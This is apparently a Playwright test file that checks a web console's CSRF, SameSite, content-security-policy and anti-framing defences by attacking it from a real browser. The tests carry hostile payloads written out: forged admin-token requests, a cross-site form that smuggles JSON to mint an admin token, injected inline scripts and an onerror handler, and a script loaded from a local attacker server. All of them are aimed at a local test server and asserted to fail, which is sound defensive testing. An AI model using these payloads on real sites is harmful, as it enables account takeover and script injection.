"""Attempts to break the console's defences from a real browser: forged state changes (no or a
wrong CSRF token, a form on another site), scripts and styles injected into its pages."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import httpx2
import pytest
from browser_support import ConsoleSite, Watched, assert_no_secret, sign_in

from palyra.daemon.surfaces.console.pages import PAGE_CSP

expect = pytest.importorskip(
    "playwright.sync_api", reason="the playwright package is not installed (requirements-test.txt)"
).expect
pytestmark = pytest.mark.slow  # a real browser: a few seconds per test


def _tokens(site: ConsoleSite) -> list[str]:
    with httpx2.Client(base_url=site.url) as http:
        listed = http.get(
            "/console/v1/tokens", headers={"authorization": f"Bearer {site.admin_token}"}
        )
    return [t["name"] for t in listed.json()["data"]]


FORGE = """async (args) => {
  const [csrf] = args;
  const headers = { "content-type": "application/json" };
  if (csrf !== null) headers["x-palyra-csrf"] = csrf;
  const r = await fetch("/console/v1/tokens", {
    method: "POST", headers, credentials: "same-origin",
    body: JSON.stringify({ kind: "admin", name: "forged" }),
  });
  return [r.status, await r.text()];
}"""


def test_a_state_change_without_or_with_a_wrong_csrf_token_is_refused(
    watched: Watched, site: ConsoleSite
) -> None:
    page = watched.page
    sign_in(page, site.admin_token)
    for csrf in (None, "", "not-this-sessions-token"):
        status, body = page.evaluate(FORGE, [csrf])
        assert status == 403, body
        assert "x-palyra-csrf" in body and "Nothing was changed" in body
    assert "forged" not in _tokens(site)
    # The page's own calls carry the right one: the same request from the console succeeds.
    csrf = page.evaluate(
        "async () => (await (await fetch('/console/v1/session')).json()).csrf_token"
    )
    status, body = page.evaluate(FORGE, [csrf])
    assert status == 201, body
    assert "forged" in _tokens(site)


class _AttackerPage(BaseHTTPRequestHandler):
    """Another site's page: a form that posts JSON-looking text to the daemon's token route."""

    target = ""

    def do_GET(self) -> None:
        body = (
            "<!doctype html><title>win a prize</title>"
            f'<form method="post" enctype="text/plain" action="{self.target}/console/v1/tokens">'
            '<input name=\'{"kind":"admin","name":"cross-site","x":"\' value=\'"}\'>'
            "<button>Claim</button></form>"
        ).encode()
        self.send_response(200)
        self.send_header("content-type", "text/html")
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def attacker(site: ConsoleSite) -> Iterator[str]:
    handler = type("Attacker", (_AttackerPage,), {"target": site.url})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        # "localhost" is another site than "127.0.0.1" for the browser's SameSite rules.
        yield f"http://localhost:{server.server_address[1]}/"
    finally:
        server.shutdown()
        server.server_close()


def test_a_form_on_another_site_does_not_get_the_session_cookie(
    watched: Watched, site: ConsoleSite, attacker: str
) -> None:
    page = watched.page
    sign_in(page, site.admin_token)
    page.goto(attacker)
    with page.expect_response(f"{site.url}/console/v1/tokens") as answer:
        page.get_by_role("button", name="Claim").click()
    response = answer.value
    # Refused as a request with no credentials at all (401), not as one whose cookie came along
    # without a CSRF token (403): SameSite=Strict kept the cookie home.
    assert response.status == 401, response.text()
    assert "cookie" not in response.request.all_headers()
    assert "cross-site" not in _tokens(site)


def test_pages_carry_a_strict_csp_and_injected_scripts_and_styles_do_not_run(
    watched: Watched, site: ConsoleSite, attacker: str
) -> None:
    page = watched.page
    for path in ("/console", "/docs", "/console/static/js/main.js", "/console/static/console.css"):
        response = page.request.get(path)
        assert response.headers["content-security-policy"] == PAGE_CSP
        assert response.headers["x-frame-options"] == "DENY"
        assert response.headers["x-content-type-options"] == "nosniff"
    assert "'unsafe-inline'" not in PAGE_CSP and "http" not in PAGE_CSP
    sign_in(page, site.admin_token)
    violations = page.evaluate(
        """async (external) => {
      const seen = [];
      document.addEventListener("securitypolicyviolation", (e) => seen.push(e.violatedDirective));
      const inline = document.createElement("script");
      inline.textContent = "window.__inline = 1";
      document.body.append(inline);
      const remote = document.createElement("script");
      remote.src = external + "evil.js";
      document.body.append(remote);
      const style = document.createElement("style");
      style.textContent = "body { background: rgb(255, 0, 0) !important; }";
      document.head.append(style);
      const handler = document.createElement("div");
      handler.innerHTML = '<img src="x" onerror="window.__handler = 1">';
      document.body.append(handler);
      await new Promise((r) => setTimeout(r, 300));
      return seen;
    }""",
        attacker,
    )
    assert page.evaluate("() => [window.__inline, window.__handler]") == [None, None]
    background = page.evaluate("() => getComputedStyle(document.body).backgroundColor")
    assert background != "rgb(255, 0, 0)"
    assert {v.split(" ")[0] for v in violations} >= {"script-src-elem", "style-src-elem"}
    assert_no_secret(watched, site.secrets())


def test_framing_the_console_is_refused(watched: Watched, site: ConsoleSite, attacker: str) -> None:
    page = watched.page
    page.goto(attacker)
    page.evaluate(
        "(url) => { const f = document.createElement('iframe'); f.src = url;"
        " document.body.append(f); }",
        f"{site.url}/console",
    )
    page.wait_for_timeout(500)
    assert len(page.frames) == 2
    # Loaded on its own the page has its sign-in form; inside another site's frame, nothing.
    expect(page.frames[1].locator("#sign-in-form")).to_have_count(0)
